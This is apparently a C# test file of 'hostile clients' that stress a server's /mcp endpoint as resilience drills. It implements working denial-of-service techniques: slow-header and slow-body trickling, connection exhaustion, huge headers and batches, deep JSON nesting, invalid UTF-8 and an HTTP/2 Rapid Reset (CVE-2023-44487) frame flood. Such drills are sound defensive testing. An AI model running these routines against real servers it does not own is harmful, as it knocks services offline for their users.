using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;

namespace Hatago.Tests.Drills;

/// <summary>Clients that want a server to run out of something, each until it is told to stop. Whatever the server does to them, they try again.</summary>
internal static class HostileClients
{
    private const int Slow = 200;
    private const int Busy = 4;

    private static readonly TimeSpan Trickle = TimeSpan.FromMilliseconds(200);

    public static Task SlowHeadersAsync(Uri server, CancellationToken stop) => EachAsync(Slow, server, async stream =>
    {
        await stream.WriteAsync("POST /mcp HTTP/1.1\r\nHost: localhost\r\nX-Slow: "u8.ToArray(), stop);
        await TrickleAsync(stream, stop);
    }, stop);

    public static Task SlowBodyAsync(Uri server, CancellationToken stop) => EachAsync(Slow, server, async stream =>
    {
        await stream.WriteAsync("POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n"u8.ToArray(), stop);
        await TrickleAsync(stream, stop);
    }, stop);

    /// <summary>More connections than the server's process may have files.</summary>
    public static Task IdleAsync(Uri server, CancellationToken stop) => EachAsync(1_500, server, async stream => await stream.CopyToAsync(Stream.Null, stop), stop);

    public static Task ManyHeadersAsync(Uri server, CancellationToken stop) => PostAsync(server, "{}"u8.ToArray(), $"X-Much: {new string('x', 100_000)}\r\n", stop);

    public static Task DeepJsonAsync(Uri server, CancellationToken stop) => PostAsync(server, [.. Enumerable.Repeat((byte)'[', 4_000_000)], "", stop);

    public static Task HugeBatchAsync(Uri server, CancellationToken stop) => PostAsync(
        server, Encoding.ASCII.GetBytes($"[{string.Join(',', Enumerable.Repeat("""{"jsonrpc":"2.0","id":1,"method":"tools/list"}""", 50_000))}]"), "", stop);

    public static Task InvalidUtf8Async(Uri server, CancellationToken stop) => PostAsync(server, [(byte)'"', .. Enumerable.Repeat((byte)0xFF, 1_000_000), (byte)'"'], "", stop);

    /// <summary>CVE-2023-44487: streams of HTTP/2 that are opened and reset, thousands on a connection.</summary>
    public static Task RapidResetAsync(Uri server, CancellationToken stop) => EachAsync(Busy, server, async stream =>
    {
        byte[] path = [0x83, 0x86, 0x04, 0x04, .. "/mcp"u8, 0x01, 0x09, .. "localhost"u8]; // HPACK: POST, http, :path, :authority
        await stream.WriteAsync((byte[])[.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(type: 4, flags: 0, stream: 0, [])], stop);
        for (var id = 1; id < 100_000; id += 2)
            await stream.WriteAsync((byte[])[.. Frame(type: 1, flags: 4, id, path), .. Frame(type: 3, flags: 0, id, [0, 0, 0, 8])], stop); // HEADERS, RST_STREAM
    }, stop);

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var head = new byte[9];
        BinaryPrimitives.WriteInt32BigEndian(head, payload.Length << 8);
        (head[3], head[4]) = (type, flags);
        BinaryPrimitives.WriteInt32BigEndian(head.AsSpan(5), stream);
        return [.. head, .. payload];
    }

    private static async Task TrickleAsync(NetworkStream stream, CancellationToken stop)
    {
        using var timer = new PeriodicTimer(Trickle);
        while (await timer.WaitForNextTickAsync(stop))
            await stream.WriteAsync("x"u8.ToArray(), stop);
    }

    private static Task PostAsync(Uri server, byte[] body, string headers, CancellationToken stop) => EachAsync(Busy, server, async stream =>
    {
        var head = $"POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n{headers}Content-Length: {body.Length}\r\nConnection: close\r\n\r\n";
        await stream.WriteAsync((byte[])[.. Encoding.ASCII.GetBytes(head), .. body], stop);
        var answer = new byte[4096];
        while (await stream.ReadAsync(answer, stop) > 0)
        {
        }
    }, stop);

    private static Task EachAsync(int clients, Uri server, Func<NetworkStream, Task> attack, CancellationToken stop) => Task.WhenAll(Enumerable.Range(0, clients).Select(_ => Task.Run(async () =>
    {
        using var pause = new PeriodicTimer(Trickle);
        while (!stop.IsCancellationRequested)
        {
            using var client = new TcpClient();
            try
            {
                await client.ConnectAsync(server.Host, server.Port, stop);
                await attack(client.GetStream());
                await pause.WaitForNextTickAsync(stop);
            }
            catch (Exception thrownOut) when (thrownOut is IOException or SocketException)
            {
                await pause.WaitForNextTickAsync(CancellationToken.None); // The server has had enough of it.
            }
            catch (OperationCanceledException)
            {
                return;
            }
        }
    }, CancellationToken.None)));
}
